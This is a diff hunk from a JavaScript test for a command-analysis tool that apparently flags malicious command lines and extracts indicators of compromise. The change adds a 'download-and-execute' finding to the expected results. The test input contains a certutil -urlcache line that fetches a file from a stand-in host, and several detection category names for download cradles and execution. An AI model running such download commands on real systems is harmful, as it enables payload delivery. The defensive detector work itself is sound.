@@ -39,7 +39,7 @@ describe('command analysis within its budget', () => {
     const tail = ' certutil -urlcache -f http://late.example.com/x';
     const commandLine = head + 'A'.repeat(1024 * 1024 - head.length - tail.length) + tail;
     const r = analyzeCommand(commandLine);
-    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'download-cradle', 'invoke-expression']);
+    expect(r.findings.map((f) => f.id)).toEqual(['execution-policy-bypass', 'download-cradle', 'invoke-expression', 'download-and-execute']);
     expect(r.iocs.urls).toEqual(['http://203.0.113.45/a.ps1']); // the late URL is past the analysed part
     expect(r.limits).toEqual({ analysedChars: MAX_ANALYSED_CHARS, totalChars: commandLine.length, findingsOmitted: 0, iocsOmitted: 0 });
     expect(limitsNote(r.limits)).toBe('analysed the first 64 KB of 1,024 KB');
